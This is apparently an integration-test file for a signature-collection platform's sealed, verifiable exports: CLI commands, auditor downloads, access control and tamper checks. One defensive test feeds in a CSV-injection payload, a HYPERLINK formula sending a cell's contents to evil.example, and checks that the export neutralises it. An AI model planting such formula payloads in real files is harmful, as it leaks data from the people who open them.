"""Verifiable exports end to end: statements signed through the real form, `export create`, `verify`, `open`,
on SQLite and PostgreSQL; the country filter; the auditor's browser download; the key at its stable URL."""

from __future__ import annotations

import hashlib
import io
import json
import zipfile
from pathlib import Path

import pytest
import sqlalchemy as sa
from stdnum.pl import pesel

from app import create_app
from app.admin.passwords import hash_password
from app.extensions import db as _db
from app.mail.delivery import deliver_due
from app.models import AuditEntry, ExportChunk, ExportRecord, StaffUser, Statement
from app.sealing import write_private_key
from config import ProductionConfig

from ..support.factories import CNP, PESEL, confirm_link, make_initiative, part_a, part_b, path_of

HEADER = (
    "statement_id,country,confirmed_at,first_names,family_names,date_of_birth,street,postal_code,city,"
    "residence_country,id_type,id_number\r\n"
)
PASSWORD = "correct horse battery staple"


def _cli(app, *args: str):  # type: ignore[no-untyped-def]
    return app.test_cli_runner().invoke(args=list(args))


def _sign(client, slug: str, data: dict[str, str]) -> None:  # type: ignore[no-untyped-def]
    response = client.post(f"/i/{slug}/sign", data=data)
    assert response.status_code == 303, response.get_data(as_text=True)


def _sign_and_confirm(client, smtp, slug: str, data: dict[str, str]) -> None:  # type: ignore[no-untyped-def]
    _sign(client, slug, data)
    deliver_due(echo=lambda _line: None)
    [message] = smtp.to(data["email"])
    assert client.post(path_of(confirm_link(message))).status_code == 200


def _ts(statement: Statement) -> str:
    assert statement.confirmed_at is not None
    return statement.confirmed_at.strftime("%Y-%m-%dT%H:%M:%SZ")


def _second_pesel() -> str:
    body = "8512031234"  # born 1985-12-03
    return body + pesel.calc_check_digit(body)


ZOE = part_a(first_names="Zoe\u0308 Anna")  # typed decomposed: the CSV holds NFC
JONAS = part_a(
    first_names="Jonas",
    family_names="Weiß",
    date_of_birth="1975-07-01",
    street="Lindenallee 3",
    postal_code="50667",
    city="Köln",
    email="jonas@example.org",
)
ELODIE = part_a(
    "FR",
    first_names="Élodie",
    family_names="Dubois",
    date_of_birth="1990-12-05",
    street="12 rue de la Paix",
    postal_code="75002",
    city="Paris",
    residence_country="FR",
    email="elodie@example.org",
)
LUC = part_a(
    "FR",
    first_names="Luc",
    family_names="Martin",
    date_of_birth="1970-01-20",
    street="3 quai Voltaire",
    postal_code="69002",
    city="Lyon",
    residence_country="FR",
    email="luc@example.org",
)
AGNIESZKA = part_b()
IOANA = part_b(
    "RO",
    first_names="Ioana",
    family_names="Popescu",
    id_type="personal_number",
    id_number=CNP,
    email="ioana@example.org",
)
PIOTR = part_b(first_names="Piotr", family_names="Kowalski", id_number=_second_pesel(), email="piotr@example.org")


@pytest.fixture
def campaign(mail_app, client, smtp, db, tmp_path):  # type: ignore[no-untyped-def]
    """Six confirmed statements in four member states, one pending, one quarantined, one quarantine released."""
    initiative, private = make_initiative()
    slug = initiative.slug
    for data in (ZOE, JONAS, ELODIE, AGNIESZKA, IOANA, LUC):
        _sign_and_confirm(client, smtp, slug, data)
    _sign(client, slug, PIOTR)  # pending: never confirmed
    deliver_due(echo=lambda _line: None)

    by_country: dict[str, list[Statement]] = {}
    for statement in db.session.scalars(sa.select(Statement).order_by(Statement.confirmed_at, Statement.id)):
        by_country.setdefault(statement.country_code, []).append(statement)
    [_pending] = [s for s in by_country["PL"] if s.status == "pending"]
    luc = by_country["FR"][1]
    ioana = by_country["RO"][0]
    from app.statements import quarantine

    held, _tally = quarantine.apply(
        initiative,
        quarantine.Criteria(email_fingerprint=luc.email_fingerprint),
        "same network as a bot run",
        "auditor@example.org",
    )
    ro = quarantine.Criteria(country="RO")
    released, _tally = quarantine.apply(initiative, ro, "looked odd", "auditor@example.org")
    quarantine.release(initiative, released, "checked: genuine", "auditor@example.org")  # released again: it counts
    assert ioana.country_code == "RO"
    db.session.commit()
    key_file = tmp_path / "auditor.key"
    write_private_key(key_file, private)
    return {
        "initiative": initiative,
        "private": private,
        "key_file": key_file,
        "by_country": by_country,
        "quarantine": held,
    }


def _expected_csvs(by_country: dict[str, list[Statement]]) -> dict[str, str]:
    zoe, jonas = by_country["DE"]
    [elodie, _luc] = by_country["FR"]
    agnieszka = next(s for s in by_country["PL"] if s.status == "confirmed")
    [ioana] = by_country["RO"]
    return {
        "DE.csv": HEADER
        + f"{zoe.id},DE,{_ts(zoe)},Zoë Anna,Müller-Lüdenscheidt,1980-02-29,Hauptstraße 12,10115,Berlin,DE,,\r\n"
        + f"{jonas.id},DE,{_ts(jonas)},Jonas,Weiß,1975-07-01,Lindenallee 3,50667,Köln,DE,,\r\n",
        "FR.csv": HEADER
        + f"{elodie.id},FR,{_ts(elodie)},Élodie,Dubois,1990-12-05,12 rue de la Paix,75002,Paris,FR,,\r\n",
        "PL.csv": HEADER + f"{agnieszka.id},PL,{_ts(agnieszka)},Agnieszka,Wiśniewska,,,,,,personal_number,{PESEL}\r\n",
        "RO.csv": HEADER + f"{ioana.id},RO,{_ts(ioana)},Ioana,Popescu,,,,,,personal_number,{CNP}\r\n",
    }


def test_round_trip_create_verify_open(app, campaign, db, tmp_path):  # type: ignore[no-untyped-def]
    initiative = campaign["initiative"]
    out = tmp_path / "export"
    result = _cli(app, "export", "create", "--initiative", initiative.slug, "--out", str(out))
    assert result.exit_code == 0, result.output
    assert "exported 5 confirmed statements" in result.output
    assert "1 quarantined left out" in result.output

    assert sorted(p.name for p in out.iterdir()) == [
        "DE.sealed",
        "FR.sealed",
        "PL.sealed",
        "RO.sealed",
        "manifest.json",
    ]
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["format"] == "quorum-export/1"
    assert manifest["initiative"] == {"slug": initiative.slug, "title": initiative.title}
    assert manifest["rule_set"] == "eci-2024"
    assert manifest["created_by"] == "cli"
    assert manifest["auditor_public_key"] == initiative.auditor_public_key.hex()
    assert {code: entry["count"] for code, entry in manifest["countries"].items()} == {
        "DE": 2,
        "FR": 1,
        "PL": 1,
        "RO": 1,
    }
    assert manifest["countries"]["PL"]["threshold"] == 38160
    assert manifest["totals"] == {"statements": 5, "countries": 4}
    assert manifest["quarantined"] == {
        "count": 1,
        "reasons": [{"quarantine": campaign["quarantine"].id, "reason": "same network as a bot run", "count": 1}],
    }
    # the server cannot open what it exports: the lines carry the stored sealed blobs, never a name
    sealed_text = "".join((out / name).read_text() for name in ("DE.sealed", "FR.sealed", "PL.sealed", "RO.sealed"))
    assert "Wiśniewska" not in sealed_text and PESEL not in sealed_text and "Müller" not in sealed_text
    first = json.loads((out / "PL.sealed").read_text().splitlines()[0])
    assert set(first) == {"id", "country", "confirmed_at", "sealed"} and first["country"] == "PL"

    export = db.session.scalar(sa.select(ExportRecord))
    assert export.statement_count == 5 and export.countries == "DE,FR,PL,RO" and export.directory == str(out)
    entry = db.session.scalar(sa.select(AuditEntry).where(AuditEntry.action == "export.create"))
    assert entry is not None and entry.initiative_id == initiative.id and json.loads(entry.details)["statements"] == 5

    verified = _cli(app, "export", "verify", str(out))
    assert verified.exit_code == 0, verified.output
    assert "verified" in verified.output and "5 statements in 4 member states" in verified.output

    opened_dir = tmp_path / "opened"
    opened = _cli(app, "export", "open", str(out), "--key", str(campaign["key_file"]), "--out", str(opened_dir))
    assert opened.exit_code == 0, opened.output
    expected = _expected_csvs(campaign["by_country"])
    assert sorted(p.name for p in opened_dir.iterdir()) == sorted(expected)
    for name, text in expected.items():
        assert (opened_dir / name).read_bytes().decode("utf-8") == text, name
    assert "Zoe\u0308" not in (opened_dir / "DE.csv").read_text(encoding="utf-8")


def test_country_filter(app, campaign, tmp_path):  # type: ignore[no-untyped-def]
    slug = campaign["initiative"].slug
    out = tmp_path / "east"
    result = _cli(
        app, "export", "create", "--initiative", slug, "--country", "pl", "--country", "RO,FR", "--out", str(out)
    )
    assert result.exit_code == 0, result.output
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["selection"]["countries"] == ["FR", "PL", "RO"]
    assert sorted(manifest["countries"]) == ["FR", "PL", "RO"]
    assert manifest["quarantined"]["count"] == 1  # Luc, in FR
    assert sorted(p.name for p in out.iterdir()) == ["FR.sealed", "PL.sealed", "RO.sealed", "manifest.json"]

    only_de = tmp_path / "de"
    assert _cli(app, "export", "create", "--initiative", slug, "--country", "DE", "--out", str(only_de)).exit_code == 0
    manifest = json.loads((only_de / "manifest.json").read_text())
    assert list(manifest["countries"]) == ["DE"] and manifest["quarantined"] == {"count": 0, "reasons": []}
    opened = tmp_path / "de-open"
    assert (
        _cli(app, "export", "open", str(only_de), "--key", str(campaign["key_file"]), "--out", str(opened)).exit_code
        == 0
    )
    assert (opened / "DE.csv").read_bytes().decode("utf-8") == _expected_csvs(campaign["by_country"])["DE.csv"]


def test_create_refuses_bad_arguments(app, db, tmp_path):  # type: ignore[no-untyped-def]
    initiative, _ = make_initiative()
    unknown = _cli(app, "export", "create", "--initiative", "nope", "--out", str(tmp_path / "a"))
    assert unknown.exit_code != 0 and "no initiative with slug 'nope'" in unknown.output
    country = _cli(
        app, "export", "create", "--initiative", initiative.slug, "--country", "XX", "--out", str(tmp_path / "b")
    )
    assert country.exit_code != 0 and "XX is not a member state" in country.output
    busy = tmp_path / "busy"
    busy.mkdir()
    (busy / "notes.txt").write_text("mine")
    full = _cli(app, "export", "create", "--initiative", initiative.slug, "--out", str(busy))
    assert full.exit_code != 0 and "is not empty" in full.output
    assert sorted(p.name for p in busy.iterdir()) == ["notes.txt"]
    assert not (tmp_path / "a").exists() and not (tmp_path / "b").exists()
    keyless, _ = make_initiative("no-key-yet", with_key=False)
    no_key = _cli(app, "export", "create", "--initiative", keyless.slug, "--out", str(tmp_path / "c"))
    assert no_key.exit_code != 0 and "has no auditor key" in no_key.output
    assert not (tmp_path / "c").exists()
    assert db.session.scalar(sa.select(sa.func.count()).select_from(ExportRecord)) == 0

    empty = tmp_path / "empty"
    empty.mkdir()
    made = _cli(app, "export", "create", "--initiative", initiative.slug, "--out", str(empty))
    assert made.exit_code == 0, made.output
    assert sorted(p.name for p in empty.iterdir()) == ["manifest.json"]  # no statements yet: a valid empty export
    assert _cli(app, "export", "verify", str(empty)).exit_code == 0
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]  # no temporary folder left behind


def test_production_without_signing_key_refuses(app, backend, db, tmp_path, monkeypatch):  # type: ignore[no-untyped-def]
    initiative, _ = make_initiative()
    slug = initiative.slug  # read now: inside the other app's context the test's session would use its engine
    monkeypatch.setenv("DATABASE_URL", backend)
    monkeypatch.setenv("SECRET_KEY", "s" * 32)
    monkeypatch.setenv("FINGERPRINT_KEY", "f" * 32)
    monkeypatch.delenv("EXPORT_SIGNING_KEY", raising=False)
    monkeypatch.setenv("RATELIMIT_ENABLED", "0")  # production refuses limits counted in memory
    production = create_app(ProductionConfig())
    try:
        assert production.config["EXPORT_SIGNING_KEY"] == ""
        out = tmp_path / "prod"
        with production.app_context():  # the CLI runs in the current app context when there is one
            result = production.test_cli_runner().invoke(
                args=["export", "create", "--initiative", slug, "--out", str(out)]
            )
        assert result.exit_code != 0
        assert "EXPORT_SIGNING_KEY is not set" in result.output
        assert not out.exists()
        assert production.test_client().get("/admin/export-key").status_code == 404
    finally:
        with production.app_context():
            _db.engine.dispose()
    assert db.session.scalar(sa.select(sa.func.count()).select_from(ExportRecord)) == 0


def _staff(db, email: str, role: str, initiatives: list) -> StaffUser:  # type: ignore[no-untyped-def,type-arg]
    user = StaffUser(email=email, password_hash=hash_password(PASSWORD), role=role, initiatives=initiatives)
    db.session.add(user)
    db.session.commit()
    return user


def _sign_in(client, email: str) -> None:  # type: ignore[no-untyped-def]
    response = client.post("/admin/login", data={"email": email, "password": PASSWORD})
    assert response.status_code == 302, response.get_data(as_text=True)


def test_auditor_creates_and_downloads_in_the_browser(app, campaign, client, db, tmp_path):  # type: ignore[no-untyped-def]
    initiative = campaign["initiative"]
    _staff(db, "auditor@example.org", "auditor", [initiative])
    _sign_in(client, "auditor@example.org")
    page = client.get(f"/admin/initiatives/{initiative.slug}/exports")
    assert page.status_code == 200
    key_hex = client.get("/admin/export-key").get_data(as_text=True).split("hex: ")[1].split()[0]
    assert key_hex in page.get_data(as_text=True)

    made = client.post(f"/admin/initiatives/{initiative.slug}/exports", data={"country": ["DE", "PL"]})
    assert made.status_code == 302
    export = db.session.scalar(sa.select(ExportRecord))
    assert export.created_by == "auditor@example.org" and export.countries == "DE,PL"
    assert export.directory is None  # kept in the database, on no app server's disk
    assert not [
        p.name for p in Path(app.instance_path).rglob("*") if p.suffix == ".sealed" or p.name == "manifest.json"
    ]
    names = set(db.session.scalars(sa.select(ExportChunk.name).where(ExportChunk.export_id == export.id)))
    assert names == {"manifest.json", "DE.sealed", "PL.sealed"}
    listing = client.get(f"/admin/initiatives/{initiative.slug}/exports").get_data(as_text=True)
    assert f"/admin/initiatives/{initiative.slug}/exports/{export.id}.zip" in listing

    response = client.get(f"/admin/initiatives/{initiative.slug}/exports/{export.id}.zip")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "application/zip"
    assert f"{initiative.slug}-export-{export.id}.zip" in response.headers["Content-Disposition"]
    with zipfile.ZipFile(io.BytesIO(response.get_data())) as archive:
        folder = f"{initiative.slug}-export-{export.id}"
        assert sorted(archive.namelist()) == [f"{folder}/DE.sealed", f"{folder}/PL.sealed", f"{folder}/manifest.json"]
        archive.extractall(tmp_path / "unzipped")
    manifest = (tmp_path / "unzipped" / folder / "manifest.json").read_bytes()
    assert hashlib.sha256(manifest).hexdigest() == export.manifest_sha256
    key_file = tmp_path / "export-key.txt"
    key_file.write_bytes(client.get("/admin/export-key").get_data())
    checked = _cli(app, "export", "verify", str(tmp_path / "unzipped" / folder), "--key-file", str(key_file))
    assert checked.exit_code == 0, checked.output
    opened = tmp_path / "opened"
    assert (
        _cli(
            app,
            "export",
            "open",
            str(tmp_path / "unzipped" / folder),
            "--key",
            str(campaign["key_file"]),
            "--out",
            str(opened),
            "--key-file",
            str(key_file),
        ).exit_code
        == 0
    )
    expected = _expected_csvs(campaign["by_country"])
    assert {p.name: p.read_bytes().decode("utf-8") for p in opened.iterdir()} == {
        "DE.csv": expected["DE.csv"],
        "PL.csv": expected["PL.csv"],
    }

    actions = list(
        db.session.scalars(
            sa.select(AuditEntry.action).where(AuditEntry.action.like("export.%")).order_by(AuditEntry.id)
        )
    )
    assert actions == ["export.create", "export.download"]

    # a chunk changed in the database after the fact: the download is refused rather than served
    chunks = ExportChunk.__table__
    where = (chunks.c.export_id == export.id, chunks.c.name == "DE.sealed")
    data = db.session.scalar(sa.select(chunks.c.data).where(*where))
    db.session.execute(chunks.update().where(*where).values(data=data.replace(b'"country":"DE"', b'"country":"PL"', 1)))
    db.session.commit()
    assert client.get(f"/admin/initiatives/{initiative.slug}/exports/{export.id}.zip").status_code == 409


@pytest.mark.fresh_app
def test_any_app_server_serves_the_download(app, app_factory, campaign, client, db, tmp_path, monkeypatch):  # type: ignore[no-untyped-def]
    """Issue 10: with two app servers behind a load balancer, an export made on one downloads from the other, which
    shares the database and the secrets but no disk."""
    initiative = campaign["initiative"]
    _staff(db, "auditor@example.org", "auditor", [initiative])
    _sign_in(client, "auditor@example.org")
    assert client.post(f"/admin/initiatives/{initiative.slug}/exports", data={}).status_code == 302
    export = db.session.scalar(sa.select(ExportRecord))
    here = client.get(f"/admin/initiatives/{initiative.slug}/exports/{export.id}.zip").get_data()

    monkeypatch.setenv("QUORUM_INSTANCE", str(tmp_path / "second-server"))
    second = app_factory(EXPORT_SIGNING_KEY=app.config["EXPORT_SIGNING_KEY"])
    assert Path(second.instance_path) == tmp_path / "second-server"
    assert not list(Path(second.instance_path).rglob("*.sealed"))  # nothing of the export on this server's disk
    with second.app_context():
        other = second.test_client()
        _sign_in(other, "auditor@example.org")
        there = other.get(f"/admin/initiatives/{initiative.slug}/exports/{export.id}.zip")
        assert there.status_code == 200, there.get_data(as_text=True)
        with zipfile.ZipFile(io.BytesIO(there.get_data())) as archive, zipfile.ZipFile(io.BytesIO(here)) as first:
            assert {n: archive.read(n) for n in archive.namelist()} == {n: first.read(n) for n in first.namelist()}


def test_download_streams_the_stored_chunks(app, campaign, client, db, monkeypatch):  # type: ignore[no-untyped-def]
    """A file bigger than one chunk is written as several rows and comes back whole, in order."""
    from app.exports import store

    monkeypatch.setattr(store, "CHUNK", 300)  # a few lines a chunk, cut mid-line
    initiative = campaign["initiative"]
    _staff(db, "auditor@example.org", "auditor", [initiative])
    _sign_in(client, "auditor@example.org")
    assert client.post(f"/admin/initiatives/{initiative.slug}/exports", data={}).status_code == 302
    export = db.session.scalar(sa.select(ExportRecord))
    rows = db.session.execute(
        sa.select(ExportChunk.name, sa.func.count(), sa.func.max(sa.func.length(ExportChunk.data)))
        .where(ExportChunk.export_id == export.id)
        .group_by(ExportChunk.name)
    ).all()
    assert {name: count > 1 for name, count, _longest in rows}["DE.sealed"]
    assert all(longest <= 300 for _name, _count, longest in rows)
    response = client.get(f"/admin/initiatives/{initiative.slug}/exports/{export.id}.zip")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.get_data())) as archive:
        de = next(n for n in archive.namelist() if n.endswith("/DE.sealed"))
        lines = archive.read(de).splitlines()
    assert len(lines) == 2 and all(json.loads(line)["country"] == "DE" for line in lines)


def test_download_without_a_signing_key_is_refused(app, campaign, client, db, tmp_path, monkeypatch):  # type: ignore[no-untyped-def]
    """An app server started without EXPORT_SIGNING_KEY cannot check a stored export, so it serves none."""
    initiative = campaign["initiative"]
    _staff(db, "auditor@example.org", "auditor", [initiative])
    _sign_in(client, "auditor@example.org")
    assert client.post(f"/admin/initiatives/{initiative.slug}/exports", data={}).status_code == 302
    export = db.session.scalar(sa.select(ExportRecord))
    monkeypatch.setenv("QUORUM_INSTANCE", str(tmp_path / "keyless"))
    app.config["EXPORT_SIGNING_KEY"] = ""
    assert client.get(f"/admin/initiatives/{initiative.slug}/exports/{export.id}.zip").status_code == 503
    assert not db.session.scalar(sa.select(AuditEntry).where(AuditEntry.action == "export.download"))


def test_download_of_a_command_line_export_is_refused(app, campaign, client, db, tmp_path):  # type: ignore[no-untyped-def]
    initiative = campaign["initiative"]
    out = tmp_path / "cli-export"
    assert _cli(app, "export", "create", "--initiative", initiative.slug, "--out", str(out)).exit_code == 0
    export = db.session.scalar(sa.select(ExportRecord))
    _staff(db, "auditor@example.org", "auditor", [initiative])
    _sign_in(client, "auditor@example.org")
    listing = client.get(f"/admin/initiatives/{initiative.slug}/exports").get_data(as_text=True)
    assert "written to a folder by the command line" in listing
    assert client.get(f"/admin/initiatives/{initiative.slug}/exports/{export.id}.zip").status_code == 410


def test_export_pages_are_for_auditors_of_the_initiative(app, client, db):  # type: ignore[no-untyped-def]
    initiative, _ = make_initiative()
    other, _ = make_initiative("other-one")
    url = f"/admin/initiatives/{initiative.slug}/exports"
    anonymous = client.get(url)
    assert anonymous.status_code == 302 and "/admin/login" in anonymous.headers["Location"]
    assert client.post(url).status_code in (302, 400)

    _staff(db, "organizer@example.org", "organizer", [initiative])
    _sign_in(client, "organizer@example.org")
    assert client.get(url).status_code == 403
    assert client.post(url).status_code == 403
    client.post("/admin/logout")

    _staff(db, "other-auditor@example.org", "auditor", [other])
    _sign_in(client, "other-auditor@example.org")
    assert client.get(url).status_code == 403
    assert client.post(url).status_code == 403
    assert client.get(f"/admin/initiatives/{other.slug}/exports").status_code == 200
    assert client.get(f"/admin/initiatives/{other.slug}/exports/999.zip").status_code == 404
    assert db.session.scalar(sa.select(sa.func.count()).select_from(ExportRecord)) == 0


def test_export_key_is_public_at_a_stable_url(app, client):  # type: ignore[no-untyped-def]
    from app.exports.keys import instance_verify_key
    from app.exports.manifest import parse_verify_key

    response = client.get("/admin/export-key")
    assert response.status_code == 200
    assert response.mimetype == "text/plain"
    text = response.get_data(as_text=True)
    assert parse_verify_key(text) == instance_verify_key()
    assert f"hex: {instance_verify_key().hex()}" in text


# Typed into the real form by a hostile signer (CONTRACT.md: values "as the signer typed them"); the CSV cell each
# should become in a spreadsheet-safe file, written out by hand (OWASP's CSV injection rule, docs/decisions/003).
FORMULAS = part_a(
    "NL",
    first_names='=HYPERLINK("https://evil.example/?"&A1,"click")',
    family_names="@SUM(1+1)",
    street="+31 Damrak 1",
    postal_code="1012 LG",
    city="'s-Gravenhage",  # an apostrophe that starts a real place name stays as it is
    residence_country="NL",
    date_of_birth="1971-08-19",
    email="formulas@example.org",
)
IN_A_SPREADSHEET = {
    "first_names": '\'=HYPERLINK("https://evil.example/?"&A1,"click")',
    "family_names": "'@SUM(1+1)",
    "street": "'+31 Damrak 1",
    "postal_code": "1012 LG",
    "city": "'s-Gravenhage",
}
APOSTROPHE_FORMULA = part_a(
    "NL",
    first_names="'=not a formula, an apostrophe",  # gets one more apostrophe, so that removing one gives it back
    family_names="-Jansen",
    street="Damrak 2",
    postal_code="1012 LG",
    city="Amsterdam",
    residence_country="NL",
    date_of_birth="1972-01-02",
    email="apostrophe@example.org",
)


def test_open_neutralises_formulas_and_raw_keeps_them(app, mail_app, client, smtp, db, tmp_path):  # type: ignore[no-untyped-def]
    import csv

    from app.exports.cells import as_typed

    initiative, private = make_initiative()
    for data in (FORMULAS, APOSTROPHE_FORMULA):
        _sign_and_confirm(client, smtp, initiative.slug, data)
    key_file = tmp_path / "auditor.key"
    write_private_key(key_file, private)
    out = tmp_path / "export"
    assert _cli(app, "export", "create", "--initiative", initiative.slug, "--out", str(out)).exit_code == 0

    safe, raw = tmp_path / "safe", tmp_path / "raw"
    opened = _cli(app, "export", "open", str(out), "--key", str(key_file), "--out", str(safe))
    assert opened.exit_code == 0, opened.output
    assert "cells that would run as a formula start with an apostrophe" in opened.output
    opened_raw = _cli(app, "export", "open", str(out), "--key", str(key_file), "--out", str(raw), "--raw")
    assert opened_raw.exit_code == 0, opened_raw.output
    assert "values exactly as typed (--raw)" in opened_raw.output

    def rows(folder: Path) -> dict[str, dict[str, str]]:
        with open(folder / "NL.csv", encoding="utf-8", newline="") as handle:
            return {row["date_of_birth"].lstrip("'"): row for row in csv.DictReader(handle)}

    safe_rows, raw_rows = rows(safe), rows(raw)
    for name, cell in IN_A_SPREADSHEET.items():
        assert safe_rows["1971-08-19"][name] == cell, name
        assert raw_rows["1971-08-19"][name] == FORMULAS[name], name
    assert safe_rows["1972-01-02"]["first_names"] == "''=not a formula, an apostrophe"
    assert safe_rows["1972-01-02"]["family_names"] == "'-Jansen"
    assert raw_rows["1972-01-02"]["first_names"] == "'=not a formula, an apostrophe"
    # the raw value is recoverable from every spreadsheet-safe cell: remove the one apostrophe the rule added
    for day, row in safe_rows.items():
        assert {k: as_typed(v) for k, v in row.items()} == raw_rows[day]
    for row in safe_rows.values():  # no cell of the safe file starts as a formula would
        assert not [v for v in row.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_open_prints_every_note_verify_prints(app, campaign, tmp_path):  # type: ignore[no-untyped-def]
    """Issue 7: the auditor who only runs `open` must still learn what the export leaves out."""
    slug = campaign["initiative"].slug
    out = tmp_path / "export"
    made = _cli(app, "export", "create", "--initiative", slug, "--country", "FR", "--country", "DE", "--out", str(out))
    assert made.exit_code == 0, made.output
    verified = _cli(app, "export", "verify", str(out))
    assert verified.exit_code == 0, verified.output
    notes = [line for line in verified.output.splitlines() if line.startswith("note: ")]
    assert notes == [
        "note: only the member states chosen when the export was made are in it: DE, FR",
        "note: 1 confirmed statement(s) are NOT in this export: they were quarantined as suspect (same network "
        "as a bot run (1)); the instance's staff can release them or not before the final export",
    ]
    opened = _cli(app, "export", "open", str(out), "--key", str(campaign["key_file"]), "--out", str(tmp_path / "o"))
    assert opened.exit_code == 0, opened.output
    assert [line for line in opened.output.splitlines() if line.startswith("note: ")] == notes


def test_lines_in_the_order_statements_were_given(app, db, tmp_path):  # type: ignore[no-untyped-def]
    """Each country file lists its statements as they were given (created_at, then id), whenever they were
    confirmed, and two exports of the same statements hold the same files byte for byte."""
    from datetime import datetime, timedelta

    from app.sealing import seal

    from ..support.factories import sync_counters

    initiative, _ = make_initiative()
    start = datetime(2026, 3, 1, 9, 0, 0)
    given = []
    for number, (country, confirmed_after) in enumerate([("DE", 50), ("FR", 1), ("DE", 2), ("DE", 30), ("DE", 2)]):
        statement = Statement(
            initiative_id=initiative.id,
            country_code=country,
            status="confirmed",
            identity_fingerprint=f"identity-{number}",
            email_fingerprint=f"email-{number}",
            sealed_data=seal(initiative.auditor_public_key, {"first_names": f"Person {number}"}),
            created_at=start + timedelta(minutes=number if number != 4 else 3),  # 3 and 4 given the same minute
            confirmed_at=start + timedelta(minutes=number + confirmed_after),
        )
        db.session.add(statement)
        db.session.flush()
        given.append((statement.created_at, str(statement.id), country))
    db.session.commit()
    sync_counters(initiative)

    folders = [tmp_path / "first", tmp_path / "second"]
    for out in folders:
        assert _cli(app, "export", "create", "--initiative", initiative.slug, "--out", str(out)).exit_code == 0
    ids = [json.loads(line)["id"] for line in (folders[0] / "DE.sealed").read_text().splitlines()]
    assert ids == [statement_id for _created, statement_id, country in sorted(given) if country == "DE"]
    for name in ("DE.sealed", "FR.sealed"):
        assert (folders[0] / name).read_bytes() == (folders[1] / name).read_bytes()
